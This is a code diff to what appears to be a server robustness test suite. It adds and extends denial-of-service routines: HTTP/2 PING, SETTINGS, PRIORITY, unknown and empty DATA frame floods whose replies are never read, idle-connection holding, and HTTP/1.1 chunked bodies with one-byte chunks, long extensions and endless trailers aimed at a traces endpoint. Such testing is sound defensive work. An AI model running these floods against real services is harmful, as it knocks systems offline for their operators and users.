@@ -82,17 +82,15 @@ def idle(places, stop):
     }
     kinds = cycle([(places[name], words) for name, both in says.items() for words in both])
     each = IDLE_CONNECTIONS // 4
+    opened = []
 
     def connect():
         with ExitStack() as held:
-            for _, (place, words) in zip(range(each), kinds):
-                if stop.is_set():
-                    break
-                connected(held, place, words)
+            opened.extend(connected(held, *next(kinds)) is not None for _ in range(each))
             stop.wait()
 
     together([connect] * 4)
-    return f"{IDLE_CONNECTIONS} connections"
+    return f"{len(opened)} connections, {opened.count(False)} closed at once"
 
 
 @attack
@@ -173,10 +171,32 @@ def rapid_resets(places, stop):
 
 
 @attack
-def pings_and_settings(places, stop):
-    """PING and SETTINGS frames without end, whose answers are never read."""
-    floods = cycle([frame(frames.PING, 0, 0, b"12345678"), frame(frames.SETTINGS, 0, 0, b"\0\4\0\1\0\0"), frame(9, 0, 0)])
-    return flood(places["grpc"], stop, lambda: (opening(), lambda _, one=next(floods) * 1000: one), reads=False)
+def control_frames(places, stop):
+    """PING, SETTINGS, PRIORITY, unknown and empty DATA frames without end, whose answers are never read."""
+    floods = cycle(
+        [
+            frame(frames.PING, 0, 0, b"12345678"),
+            frame(frames.SETTINGS, 0, 0, b"\0\4\0\1\0\0"),
+            frame(frames.PRIORITY, 0, 1, b"\0\0\0\0\x10"),
+            frame(frames.UNKNOWN, 0, 0, b"a"),
+            frame(frames.DATA, 0, 1),
+        ]
+    )
+    first = opening() + frame(frames.HEADERS, END_HEADERS, 1, head())
+    return flood(places["grpc"], stop, lambda: (first, lambda _, one=next(floods) * 1000: one), attackers=5, reads=False)
+
+
+@attack
+def endless_chunks(places, stop):
+    """Bodies of HTTP/1.1 in chunks of a byte, with long extensions, with trailers without end."""
+    begin = b"POST /v1/traces HTTP/1.1\r\nhost: x\r\ncontent-type: application/x-protobuf\r\ntransfer-encoding: chunked\r\n\r\n"
+    kinds = cycle([(begin, b"1\r\na\r\n" * 1000), (begin + b"1;", b"a" * 10000), (begin + b"0\r\n", b"x: a\r\n" * 1000)])
+
+    def one():
+        first, more = next(kinds)
+        return first, lambda _: more
+
+    return flood(places["http"], stop, one)
 
 
 @attack
